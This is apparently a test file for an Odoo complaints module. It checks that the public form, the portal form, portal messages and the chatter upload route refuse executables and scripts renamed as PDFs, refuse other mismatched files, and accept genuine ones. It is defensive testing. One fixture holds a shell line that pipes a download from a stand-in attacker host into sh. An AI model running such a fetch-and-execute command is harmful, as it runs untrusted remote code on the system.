# Copyright 2026 ISO 10002 for Odoo contributors
# License AGPL-3.0 or later (https://www.gnu.org/licenses/agpl).
"""Intake security (issue 11, finding 17), over real HTTP: files are judged
by their content on the public and portal forms, portal messages and the
chatter upload route (the email alias: test_intake_security_alias.py;
findings 15 and 16: test_intake_security.py)."""

import io
import zipfile

from odoo.exceptions import ValidationError
from odoo.tests import tagged

from odoo.addons.iso10002_complaints.tests.rpc_common import JsonRpcMixin
from odoo.addons.iso10002_complaints.tests.test_intake_common import (
    CSRF_RE,
    PDF_BYTES,
    PNG_BYTES,
    IntakeHttpCommon,
)

ELF_BYTES = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 120
PE_BYTES = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 52 + b"\x80\x00\x00\x00PE\x00\x00"
SHELL_BYTES = b"#!/bin/sh\ncurl -s http://evil.example.com/x | sh\n"


def _docx_bytes(folder="word/"):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr(f"{folder}document.xml", "<document/>")
    return buffer.getvalue()


@tagged("post_install", "-at_install")
class TestIntakeSecurityUploads(JsonRpcMixin, IntakeHttpCommon):
    # ------------------------------------------------------------------
    # Finding 17
    # ------------------------------------------------------------------
    def _assert_refused(self, response, name):
        self.assertEqual(response.status_code, 400, name)
        self.assertIn(name, response.text)
        self.assertFalse(self.env["ir.attachment"].search([("name", "=", name)]))

    def test_finding_17_programs_renamed_pdf_refused_on_public_form(self):
        for index, content in enumerate((ELF_BYTES, PE_BYTES, SHELL_BYTES)):
            name = f"invoice{index}.pdf"
            response = self._post_public(
                files=[("attachments", (name, content, "application/pdf"))]
            )
            self._assert_refused(response, name)
        # not what the name says, though harmless: refused too
        for name, content in (
            ("photo.png", PDF_BYTES),
            ("letter.docx", _docx_bytes("xl/")),
            ("letter.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600),
        ):
            response = self._post_public(
                files=[("attachments", (name, content, "application/octet-stream"))]
            )
            self._assert_refused(response, name)
            self.assertIn("is not a real", response.text)
        self.assertFalse(self._complaints(name="Broken kettle"))

    def test_finding_17_real_files_accepted(self):
        response = self._post_public(
            files=[
                ("attachments", ("receipt.pdf", PDF_BYTES, "application/pdf")),
                ("attachments", ("photo.png", PNG_BYTES, "image/png")),
                ("attachments", ("letter.docx", _docx_bytes(), "application/zip")),
            ]
        )
        self.assertEqual(response.status_code, 303, response.text[:1000])
        attachments = self._complaints(name="Broken kettle").message_ids.attachment_ids
        self.assertEqual(
            sorted(attachments.mapped("name")),
            ["letter.docx", "photo.png", "receipt.pdf"],
        )
        self.assertEqual(
            attachments.filtered(lambda a: a.name == "receipt.pdf").mimetype,
            "application/pdf",
        )

    def test_finding_17_portal_form_and_messages(self):
        self._login(self.portal_user)
        response = self._post_portal(
            files=[("attachments", ("scan.pdf", ELF_BYTES, "application/pdf"))]
        )
        self._assert_refused(response, "scan.pdf")
        complaint = self._new_complaint(self.portal_user.partner_id)
        page = self.url_open(f"/my/complaint/{complaint.id}")
        csrf = CSRF_RE.search(page.text).group(1)
        response = self.url_open(
            f"/my/complaint/{complaint.id}/message",
            data={"csrf_token": csrf, "note": "My receipt"},
            files=[("attachments", ("receipt.pdf", ELF_BYTES, "application/pdf"))],
            allow_redirects=False,
        )
        self._assert_refused(response, "receipt.pdf")
        response = self.url_open(
            f"/my/complaint/{complaint.id}/message",
            data={"csrf_token": csrf, "note": "My receipt"},
            files=[("attachments", ("receipt.pdf", PDF_BYTES, "application/pdf"))],
            allow_redirects=False,
        )
        self.assertEqual(response.status_code, 303)
        self.assertEqual(
            complaint.message_ids[0].attachment_ids.mapped("name"), ["receipt.pdf"]
        )

    def test_finding_17_chatter_upload_route(self):
        complaint = self._new_complaint(self.portal_user.partner_id)
        self._login(self.portal_user)
        page = self.url_open(f"/my/complaint/{complaint.id}")
        csrf = CSRF_RE.search(page.text).group(1)

        def upload(name, content, **extra):
            return self.url_open(
                "/mail/attachment/upload",
                data={
                    "csrf_token": csrf,
                    "thread_id": str(complaint.id),
                    "thread_model": "helpdesk.ticket",
                    "token": complaint.access_token,
                    **extra,
                },
                files={"ufile": (name, content, "application/pdf")},
            )

        attachments = self.env["ir.attachment"]
        response = upload("tool.pdf", ELF_BYTES)
        self.assertNotEqual(response.status_code, 200)
        self.assertFalse(attachments.search([("name", "=", "tool.pdf")]))
        # pending upload, attached when the message is posted
        response = upload("script.pdf", SHELL_BYTES, is_pending="true")
        self.assertEqual(response.status_code, 200, response.text[:500])
        attachment = attachments.browse(response.json()["data"]["attachment_id"])
        self.assertEqual(attachment.res_model, "mail.compose.message")
        with self.assertRaisesRegex(ValidationError, "script.pdf"):
            # as mail's _process_attachments_for_post does when it is posted
            attachment.with_user(self.portal_user).sudo().write(
                {"res_model": "helpdesk.ticket", "res_id": complaint.id}
            )
        response = upload("real.pdf", PDF_BYTES)
        self.assertEqual(response.status_code, 200, response.text[:500])
        attachment = attachments.search([("name", "=", "real.pdf")])
        self.assertEqual(attachment.res_id, complaint.id)
        self.assertEqual(attachment.mimetype, "application/pdf")
